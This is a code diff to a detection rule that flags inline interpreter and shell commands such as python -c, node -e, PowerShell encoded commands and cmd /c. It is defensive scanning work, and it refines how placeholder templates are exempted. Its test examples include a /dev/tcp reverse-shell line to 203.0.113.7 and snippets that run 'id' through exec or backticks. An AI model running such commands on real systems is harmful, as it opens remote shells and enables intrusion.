@@ -1,3 +1,4 @@
+import { standsInHole } from '../../checks/documentation.js';
 import {
   isHarmlessInSettings,
   isOrdinaryForNode,
@@ -37,6 +38,12 @@ const isForShell = (candidate: Candidate): boolean =>
 const isFilledIn = ({ text, after }: Candidate): boolean =>
   !/^["'`]?(?:\{\{|<[a-z])/.test(after) && !/^(?:command|cmd|script|code|string)["'`]/.test(text.slice(-1) + after);
 
+/** The same for interpreters, some of which take braces for code: nothing but the hole is in the quotes. */
+const isCode = ({ text, after }: Candidate): boolean => {
+  const code = /^\\?["'`]\{\{[^{}\n]*(?:\}\}\\?["'`]|$)/.exec(text.slice(-1) + after)?.[0];
+  return code === undefined || /[()$;=<>+\\]/.test(code);
+};
+
 /** The flag is only named, in quotes that close behind it: `python -c`, 'perl -e'. */
 const isNamed = ({ before, text }: Candidate): boolean => /-\w+["'`]$/.test(text) && before.at(-1) === text.at(-1);
 
@@ -64,6 +71,9 @@ const isEmulated = ({ before }: Candidate): boolean => /(?<![\w.-])emulate\s+(?:
 
 /** Perl and Ruby as a filter for lines (-n, -p, -i): the text is an expression like sed's. */
 const isLineFilter = ({ text }: Candidate): boolean => /\s-[a-zA-Z0]*[npi]/.test(text);
+/** What the command says behind the flag: where a code span of Markdown holds it, no more than that. */
+const upToSpan = ({ before, after }: Candidate): string =>
+  /(?:^|[^`])`(?:sudo\s+|[^`\n]*\|\s*)?$/.test(before) ? (after.split('`', 1)[0] ?? '') : after;
 
 /** What scripts in package metadata do with `node -e`: print, read and copy files of their own. */
 const isOwnScript = ({ after }: Candidate): boolean =>
@@ -97,34 +107,40 @@ export const rule: Rule = {
     {
       re: /(?<![\w.-])python[\d.]{0,4}\s+(?:-[a-zA-Z]{1,3}\s+)*-c\s*\\?["'`]/,
       accept: (candidate) =>
-        !isNamed(candidate) && (isInRequestValue(candidate) || !isOrdinaryForPython(handedOver(candidate))),
+        !isNamed(candidate) &&
+        isCode(candidate) &&
+        (isInRequestValue(candidate) || !isOrdinaryForPython(handedOver(candidate))),
     },
     {
       re: /(?<![\w.-])(?:perl|ruby)\s+(?:-[a-zA-Z]{1,10}\s*)*-\w{0,4}e\s*\\?["'`]/,
       accept: (candidate) =>
         !isNamed(candidate) &&
+        isCode(candidate) &&
         (isInRequestValue(candidate) || !isOrdinaryForPerl(handedOver(candidate))) &&
-        (!isLineFilter(candidate) || /system|exec|socket|eval|(?<!`)`(?!`)/i.test(candidate.after)),
+        (!isLineFilter(candidate) || /system|exec|socket|eval|(?<!`)`(?!`)/i.test(upToSpan(candidate))),
     },
     {
       re: /(?<![\w.-])php\d?\s+(?:-[a-zA-Z]{1,3}\s+)*-r\s*\\?["'`]/,
-      accept: (candidate) => isInRequestValue(candidate) || !isOrdinaryForPhp(handedOver(candidate)),
+      accept: (candidate) =>
+        isCode(candidate) && (isInRequestValue(candidate) || !isOrdinaryForPhp(handedOver(candidate))),
     },
     {
       re: /(?<![\w.-])node\s+(?:-{1,2}[\w-]+\s+)*(?:-e|--eval|-p|--print)\s+\\?["'`]/,
       accept: (candidate) =>
-        isInRequestValue(candidate) || !(isOwnScript(candidate) || isOrdinaryForNode(handedOver(candidate))),
+        isCode(candidate) &&
+        (isInRequestValue(candidate) || !(isOwnScript(candidate) || isOrdinaryForNode(handedOver(candidate)))),
     },
     {
       re: /(?<![\w.-])(?:pwsh|powershell)(?:\.exe)?\s+(?:[-/]\w+(?:\s+[\w.]+)?\s+)*[-/](?:c|command|e|ec|en|enc|enco|encodedcommand)\s+\S/i,
       accept: (candidate) =>
-        (/\s[-/]e[nc]*\w*\s+[^\s$]$|hidden/i.test(candidate.text) && !candidate.text.endsWith('$')) ||
-        isInRequestValue(candidate) ||
-        !isOrdinaryForPowerShell(handedOver(candidate)),
+        isCode(candidate) &&
+        ((/\s[-/]e[nc]*\w*\s+[^\s$]$|hidden/i.test(candidate.text) && !candidate.text.endsWith('$')) ||
+          isInRequestValue(candidate) ||
+          !isOrdinaryForPowerShell(handedOver(candidate))),
     },
     {
       re: /(?<![\w.-])cmd(?:\.exe)?\s+(?:\/[a-z](?::\w+)?\s+)*\/[ck]\s+["\w%!(]/i,
-      accept: (candidate) => !isProse(candidate) && isForShell(candidate),
+      accept: (candidate) => !isProse(candidate) && !standsInHole(candidate) && isForShell(candidate),
     },
     {
       re: /["'](?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da|a)?sh["']\s*,\s*["']-[a-z]{0,3}c["']\s*,/,
@@ -134,6 +150,8 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      "node -e \"{{require('child_process').exec('id')}}\"",
+      "perl -p -i -e 's/a/`id`/e' file",
       "bash -c '</dev/tcp/203.0.113.7/4444 sh'",
       'sh -c "echo \'ping -c 4 8.8.8.8\' >> /tmp/art.sh"',
       '/get?932236-1=bash -c "echo test"',
@@ -150,6 +168,11 @@ export const rule: Rule = {
       'bash -c \'echo "$(</home/a/notes)"\'',
     ],
     silent: [
+      'python -c "{{expression}}"',
+      `ruby -e "{{puts 'Hello world'}}"`,
+      `pwsh -Command "{{echo 'powershell is executed'}}"`,
+      'tool --command {{cmd.exe /c whoami}}',
+      "- Edit lines:\n\n`perl -p -i -e 's/{{regular_expression}}/{{replacement}}/g' {{path/to/file}}`",
       "php -r 'echo base64_encode(random_bytes(32));'",
       'emulate ksh -c $completion_func',
       "docker exec some-mysql sh -c 'exec mysqldump --all-databases -uroot' > /backup/all.sql",
